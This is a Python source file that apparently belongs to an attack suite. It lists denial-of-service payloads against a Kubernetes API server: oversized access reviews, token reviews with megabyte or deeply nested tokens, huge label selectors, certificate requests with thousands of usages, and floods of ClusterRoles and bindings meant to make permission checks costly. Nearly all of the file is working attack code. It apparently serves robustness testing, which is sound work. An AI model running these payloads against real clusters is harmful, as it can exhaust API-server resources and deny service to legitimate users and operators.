"""Attacks by reviews: questions about permissions and credentials, and the check of new permissions."""

import base64
from typing import Any

from hack.attacks.client import Answer, Door
from hack.attacks.costly.row import (
    AUTHORIZATION,
    LOW,
    RBAC,
    YAML,
    Attack,
    Row,
    after,
    binding,
    post,
    posting,
    role,
    rules,
    send,
)

SELF, SUBJECT = f"{AUTHORIZATION}/selfsubjectaccessreviews", f"{AUTHORIZATION}/subjectaccessreviews"
LOCAL = f"{AUTHORIZATION}/namespaces/default/localsubjectaccessreviews"
RULES = f"{AUTHORIZATION}/selfsubjectrulesreviews"
TOKENS, MYSELF = (
    "/apis/authentication.k8s.io/v1/tokenreviews",
    "/apis/authentication.k8s.io/v1/selfsubjectreviews",
)
REQUESTS = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
ASKED = {"verb": "get", "resource": "configmaps", "namespace": "default"}


def _yaml(kind: str, keys: int) -> bytes:
    head = f"apiVersion: authorization.k8s.io/v1\nkind: {kind}\nspec: {{resourceAttributes: {{verb: get}}}}\n"
    return head.encode() + b"f: 1\n" * keys


def _subject(**spec: Any) -> dict[str, Any]:
    return {"spec": {"user": "u", "resourceAttributes": ASKED, **spec}}


def _group_reviews(door: Door) -> list[Answer]:
    bodies = [_subject(groups=[f"g{n}-{m}" for m in range(2_000)]) for n in range(100)]
    return send(door, [door.request("POST", SUBJECT, each) for each in bodies])


def _bound_low(count: int, each: int) -> Attack:
    return lambda door: [
        *post(door, f"{RBAC}/clusterroles", *(role(f"big{n}", rules(each, f"v{n}")) for n in range(count))),
        *post(door, f"{RBAC}/clusterrolebindings", *(binding(f"b{n}", f"big{n}") for n in range(count))),
    ]


def _writer(door: Door) -> list[Answer]:
    """Let the user write roles and bindings, but neither escalate nor bind."""
    allowed = [{"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["*"], "verbs": ["create", "get"]}]
    return [
        *post(door, f"{RBAC}/clusterroles", role("writer", allowed)),
        *post(door, f"{RBAC}/clusterrolebindings", binding("writer", "writer")),
    ]


def _product(wide: int) -> dict[str, Any]:
    rule = {key: [f"{key}{n}" for n in range(wide)] for key in ("apiGroups", "resources", "verbs")}
    return role("product", [rule])


def _request(count: int, size: int) -> dict[str, Any]:
    pem = "-----BEGIN CERTIFICATE REQUEST-----\n" + "A" * size + "\n-----END CERTIFICATE REQUEST-----\n"
    spec = {
        "request": base64.b64encode(pem.encode()).decode(), "signerName": "example.com/a",
        "usages": ["client auth"] * count, "extra": {f"example.com/{n}": ["v"] for n in range(count)},
    }  # fmt: skip
    return {"metadata": {"generateName": "r-"}, "spec": spec}


ROWS = [
    Row("an access review of many keys in YAML", posting(SELF, lambda: _yaml("SelfSubjectAccessReview", 50_000), YAML)),
    Row("an access review of megabytes", posting(SELF, lambda: {"spec": {"resourceAttributes": ASKED}, "f": ["x"] * 500_000})),
    Row("a review of a user in many groups", posting(SUBJECT, lambda: _subject(groups=[f"g{n}" for n in range(100_000)]))),
    Row("reviews of users in other groups each", _group_reviews),
    Row("a review with many further attributes", posting(SUBJECT, lambda: _subject(extra={f"k{n}": ["v"] for n in range(50_000)}))),
    Row("a review in one namespace of many groups", posting(
        LOCAL, lambda: _subject(groups=[f"g{n}" for n in range(100_000)]))),
    Row("a review of many selectors", posting(SELF, lambda: {"spec": {"resourceAttributes": {
        **ASKED, "verb": "list", "labelSelector": {"requirements": [
            {"key": f"k{n}", "operator": "In", "values": ["a", "b"]} for n in range(20_000)]}}}})),
    Row("a review of a raw selector", posting(SELF, lambda: {"spec": {"resourceAttributes": {
        **ASKED, "verb": "list", "labelSelector": {"rawSelector": "a in (" + "b," * 100_000 + "b)"}}}})),
    Row("the rules of a user with many roles", after(_bound_low(40, 500), posting(RULES, {"spec": {"namespace": "default"}}, LOW))),
    Row("the rules of a user with one large role", after(_bound_low(1, 20_000), posting(RULES, {"spec": {"namespace": "default"}}, LOW))),
    Row("a token of a megabyte", posting(TOKENS, lambda: {"spec": {"token": "a" * 2**20}})),
    Row("a token of many parts", posting(TOKENS, lambda: {"spec": {"token": "a." * 100_000}})),
    Row("a token whose head is large", posting(TOKENS, lambda: {"spec": {
        "token": base64.urlsafe_b64encode(b'{"alg":"RS256","a":[' + b"1," * 100_000 + b"1]}").decode() + ".e30.e30"}})),
    Row("a review of a token for many audiences", posting(TOKENS, lambda: {"spec": {"token": "a", "audiences": [f"a{n}" for n in range(100_000)]}})),
    Row("a review of oneself with a large body", posting(MYSELF, lambda: {"status": {"a": ["x"] * 300_000}})),
    Row("a role of a large product, checked", after(
        _writer, _bound_low(1, 1_000), posting(f"{RBAC}/clusterroles", lambda: _product(47), LOW))),
    Row("a role of many rules, checked", after(
        _writer, _bound_low(1, 1_000), posting(f"{RBAC}/clusterroles", lambda: role("many", rules(10_000, "update")), LOW))),
    Row("a binding to a large role, checked", after(
        _writer, lambda door: post(door, f"{RBAC}/clusterroles", role("large", rules(10_000))),
        posting(f"{RBAC}/clusterrolebindings", binding("l", "large"), LOW))),
    Row("a certificate request of a megabyte", posting(REQUESTS, lambda: _request(1, 700_000))),
    Row("a certificate request of many usages", posting(REQUESTS, lambda: _request(20_000, 100))),
]  # fmt: skip
